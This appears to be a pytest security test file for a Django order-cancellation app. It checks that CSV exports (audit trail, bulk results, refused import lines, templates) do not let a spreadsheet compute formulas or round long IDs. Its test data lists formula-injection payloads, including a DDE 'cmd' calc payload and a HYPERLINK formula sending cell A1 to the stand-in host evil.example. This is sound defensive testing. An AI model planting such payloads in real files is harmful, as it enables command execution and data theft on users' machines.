"""S10: whatever stands in a cell, no spreadsheet computes it or rounds it, however it cuts the file into cells.

No spreadsheet is started: :func:`computed` and :func:`rounded` are stricter than one. They read each file with every
separator a country's settings may choose, with and without regard to quotes, and look past blanks and full-width forms.
"""

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from django.utils import timezone

from cancellations.audit import trail
from cancellations.batches.models import BatchRow
from cancellations.orders import refused
from cancellations.orders.cells import Fault
from cancellations.spreadsheet import csv_lines
from providers.registry import PROVIDERS
from tests.desk import person, stall
from tests.security.ground import House, build

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "−"]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")']
BEFORE = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x0b"]
CELLS = [
    *(f"{before}{sign}{BODIES[0]}" for before in BEFORE for sign in SIGNS[:8]),
    *(f"{sign}{body}" for sign in SIGNS for body in BODIES),
    "\tx", "\rx", "\nx", "a\n=1+1", "a\r=1+1", "a\r\n\t+1+1", "a;=1+1", 'a";=1+1;"', 'a"\n=1+1', "a,=1+1", "a\t=1+1",
    '"=1+1"', '";=1+1', "=", "-", "+", "@", "=\x001+1", "\x00=1+1", "'=1+1",
]  # fmt: skip
IDS = ["1234567890123456789", "0012345678", "123456789012", "12E5", "1.5e10"]
_SKIPPED = re.compile(r"^[\s\u200b-\u200f\u2060\ufeff\x00-\x1f]*")


def cells_of(text: str) -> Iterator[str]:
    """Yield every cell that some spreadsheet might see in a file."""
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row
        for line in re.split(r"[\r\n]+", text):  # as where a line break ends the line, quotes or not
            yield from line.split(separator)[:1]


def computed(text: str) -> list[str]:
    """Return the cells a spreadsheet would take for formulas."""
    return [
        cell
        for cell in cells_of(text.removeprefix("\ufeff"))
        if unicodedata.normalize("NFKC", _SKIPPED.sub("", cell))[:1] in ("=", "+", "-", "@", "−")
        and len(_SKIPPED.sub("", cell)) > 1
    ]


def rounded(text: str) -> list[str]:
    """Return the cells a spreadsheet would show as another number than they are."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    numbers = [cell for row in rows for cell in row if re.fullmatch(r"\s*\d+(\.\d+)?([eE]\d+)?\s*", cell)]
    return [cell for cell in numbers if f"{float(cell):.11g}" != cell.strip()]


def read(answer: Any) -> str:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content if answer.streaming else [answer.content]).decode()


def test_S10_the_reader_sees_a_formula_and_a_rounded_number() -> None:
    for plain in ('"=1+1"\r\n', '"a","＋1"\r\n', '"a\n-1+1"\r\n', "x;@y\r\n", '"\u200b =1"\r\n'):
        assert computed(plain), plain
    assert rounded("1234567890123456789,5\r\n0012,1.5,12E5\r\n") == ["1234567890123456789", "0012", "12E5"]
    assert not computed("a,b=c\r\n2026-01-01,5\r\n")


def test_S10_no_cell_is_computed_wherever_it_stands_in_a_line() -> None:
    assert len(CELLS) >= 60
    for at in range(3):
        for cell in CELLS:
            row = ["a", "b", "c"]
            row[at] = cell
            text = "".join(csv_lines(["x", "y", "z"], [row]))
            assert computed(text) == [], (at, cell)
            (_head, kept) = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
            assert kept[at].replace("'", "") == cell.replace("'", "").replace("\x00", ""), "nothing else is lost"


@pytest.fixture
def house() -> House:
    return build(count=4)


@pytest.mark.django_db
def test_S10_the_record_as_a_file_computes_and_rounds_nothing(house: House) -> None:
    for number, cell in enumerate([*CELLS, *IDS]):
        name = cell.replace("\x00", "")
        who = person(username=f"{name[:60]}{number}")
        trail.record("order.looked_up", by=who, subject_kind="order", subject=cell, order_number=cell,
                     shop=house.stall.shop, data={"note": cell, name[:20]: cell})  # fmt: skip
    house.stall.shop.title = "=1+1"
    house.stall.shop.save()
    text = read(house.client("admin").post("/audit/export/csv/"))
    assert computed(text) == []
    assert rounded(text) == []
    assert all(f'"\'{one}"' in text for one in IDS)
    assert text.count("\r\n") > len(CELLS)


@pytest.mark.django_db
def test_S10_the_result_of_a_bulk_computes_and_rounds_nothing(house: House) -> None:
    one = house.cancellation
    for number, cell in enumerate([*CELLS, *IDS], 2):
        name = cell.replace("\x00", "")
        BatchRow.objects.create(
            batch=house.batch, place=number, line=number, given=name, shop=house.stall.shop, order_number=name[:100],
            item_ref=name, currency=name[:3], verdict="unknown", not_asked=name,
        )  # fmt: skip
    type(one).objects.filter(pk=one.pk).update(message="a\n=1+1", code="=1", state_since=timezone.now())
    BatchRow.objects.filter(batch=house.batch, place=1).update(verdict="ready")
    type(house.stall.shop).objects.filter(pk=house.stall.shop.pk).update(title="@SUM(1)")
    text = read(house.client("admin").get(f"/bulk/{house.batch.pk}/result.csv"))
    assert computed(text) == []
    assert rounded(text) == []
    assert all(f'"\'{one}"' in text for one in IDS)


@pytest.mark.django_db
def test_S10_the_refused_lines_of_a_file_compute_and_round_nothing(house: House) -> None:
    with refused.keeping(house.handed.pk) as keep:
        for number, cell in enumerate([*CELLS, *IDS], 2):
            keep(number, Fault("%(value)s", {"value": cell}))
    text = read(house.client("manager").get(f"/orders/import/{house.handed.pk}/refused.csv"))
    assert computed(text) == []
    assert rounded(text) == []
    assert all(f'"\'{one}"' in text for one in IDS)
    assert text.count("\r\n") > len(CELLS)


@pytest.mark.django_db
@pytest.mark.parametrize("slug", PROVIDERS)
def test_S10_a_template_computes_nothing(house: House, slug: str) -> None:
    made, browser = stall(slug, count=1, learn=False), house.client("admin")
    files = [read(browser.get(f"/orders/import/{made.shop.name}.csv")), read(browser.get("/bulk/template.csv"))]
    assert all(len(text) > 5 and computed(text) == [] for text in files)
